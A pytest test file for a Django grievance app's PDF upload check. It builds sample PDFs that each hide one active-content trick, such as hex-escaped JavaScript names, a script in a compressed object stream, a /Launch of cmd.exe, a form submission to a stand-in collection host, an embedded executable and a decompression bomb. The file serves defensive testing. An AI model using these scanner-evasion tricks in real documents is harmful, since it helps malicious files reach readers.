"""The PDF check parses the file: each trick that slipped past a byte search is refused.

The PDFs are built here by hand, object by object, so each one carries exactly one trick.
"""

import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter

from grievances.attachments import clean_upload, pdf_has_active_content
from tests.grievances.citizen_files import pdf_bytes as pdf

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
CONTENT = b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 720 Td (A letter) Tj ET\nendstream"


def pdf_with_object_stream(*objects: bytes, compressed: bytes) -> bytes:
    """Objects 1..n plain; one more object, `compressed`, only inside a Flate object stream,
    found through a cross-reference stream (PDF 1.5), as modern writers produce."""
    packed_number = len(objects) + 1
    stream_number = packed_number + 1
    xref_number = stream_number + 1
    header = b"%d 0 " % packed_number
    body = zlib.compress(header + compressed)
    out = b"%PDF-1.7\n"
    offsets = []
    for number, text in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    stream_offset = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\n" % (
        stream_number,
        len(header),
        len(body),
    )
    out += b"stream\n" + body + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for offset in offsets]
    rows.append(b"\x02" + stream_number.to_bytes(4, "big") + b"\x00\x00")
    rows.append(b"\x01" + stream_offset.to_bytes(4, "big") + b"\x00\x00")
    rows.append(b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00")
    table = zlib.compress(b"".join(rows))
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode"
        b" /Length %d >>\nstream\n" % (xref_number, xref_number + 1, len(table))
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return out


def clean_pdf() -> bytes:
    return pdf(CATALOG, PAGES, PAGE, CONTENT)


def page_with(extra: bytes) -> bytes:
    return PAGE[:-2] + b" " + extra + b" >>"


TRICKS = {
    # Document-level JavaScript in the names tree, the name spelt with #xx escapes.
    "hex-escaped names": pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 5 0 R >> >>",
        PAGES,
        PAGE,
        CONTENT,
        b"<< /Names [(x) << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>] >>",
    ),
    # The script sits in a compressed object stream: no readable byte says JavaScript.
    "compressed object stream": pdf_with_object_stream(
        b"<< /Type /Catalog /Pages 2 0 R /Op#65nAction 5 0 R >>",
        PAGES,
        PAGE,
        CONTENT,
        compressed=b"<< /S /JavaScript /JS (app.launchURL\\('http://x.example'\\)) >>",
    ),
    # Additional actions: run when the page is opened.
    "/AA on a page": pdf(
        CATALOG, PAGES, page_with(b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), CONTENT
    ),
    "/OpenAction": pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", PAGES, PAGE, CONTENT
    ),
    "/URI link": pdf(
        CATALOG,
        PAGES,
        page_with(b"/Annots [5 0 R]"),
        CONTENT,
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100]"
        b" /A << /S /URI /URI (http://phish.example/login) >> >>",
    ),
    "/Launch": pdf(
        CATALOG,
        PAGES,
        page_with(b"/Annots [5 0 R]"),
        CONTENT,
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /L#61unch /F (cmd.exe) >> >>",
    ),
    "/SubmitForm": pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>",
        PAGES,
        page_with(b"/Annots [5 0 R]"),
        CONTENT,
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 0 100 20]"
        b" /A << /S /SubmitForm /F (http://collect.example/) >> >>",
    ),
    "XFA form": pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 5 0 R >> >>",
        PAGES,
        PAGE,
        CONTENT,
        b"<< /Length 7 >>\nstream\n<xdp/>\nendstream",
    ),
    "embedded file": pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >>"
        b" >> >>",
        PAGES,
        PAGE,
        CONTENT,
        b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
    ),
    # Not reachable from the catalog, but a repairing viewer may still find it.
    "orphan script object": pdf(
        CATALOG, PAGES, PAGE, CONTENT, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    ),
}


def upload(content: bytes, name: str = "letter.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/pdf")


@pytest.mark.parametrize("trick", list(TRICKS))
def test_a_pdf_with_active_content_is_refused(trick):
    content = TRICKS[trick]
    PdfReader(io.BytesIO(content), strict=True)  # each sample is a PDF a viewer would open

    with pytest.raises(ValidationError) as refused:
        clean_upload(upload(content))

    assert refused.value.code == "active_pdf"


def test_a_plain_pdf_passes_unchanged():
    content = clean_pdf()

    cleaned = clean_upload(upload(content))

    assert cleaned.content == content
    assert (cleaned.content_type, cleaned.extension) == ("application/pdf", "pdf")


def test_a_pdf_with_an_in_document_link_passes():
    content = pdf(
        CATALOG,
        PAGES,
        page_with(b"/Annots [5 0 R]"),
        CONTENT,
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /GoTo /D [3 0 R /Fit] >> >>",
    )

    assert pdf_has_active_content(content) is False


def test_a_pdf_written_by_pypdf_passes():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)

    assert clean_upload(upload(out.getvalue())).content == out.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n" + b"\x00" * 400 + b"\n%%EOF\n",
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\nendobj\n%%EOF\n",
        clean_pdf()[:-200] + b"%%EOF\n",
        b"%PDF-1.7\ntrailer\n<< /Root 9 0 R >>\n%%EOF\n",
    ],
    ids=["no objects", "unterminated dictionary", "cut short", "catalog missing"],
)
def test_an_unparseable_pdf_is_refused(content):
    with pytest.raises(ValidationError) as refused:
        clean_upload(upload(content))

    assert refused.value.code == "bad_pdf"


def test_a_password_protected_pdf_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)

    with pytest.raises(ValidationError) as refused:
        clean_upload(upload(out.getvalue()))

    assert refused.value.code == "bad_pdf"


def test_a_pdf_whose_object_stream_inflates_past_the_limit_is_refused():
    bomb = pdf_with_object_stream(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        PAGE,
        CONTENT,
        compressed=b"<< /Padding (" + b"x" * 12_000_000 + b") >>",
    )
    assert len(bomb) < 100_000  # a small upload

    with pytest.raises(ValidationError) as refused:
        clean_upload(upload(bomb))

    assert refused.value.code == "bad_pdf"
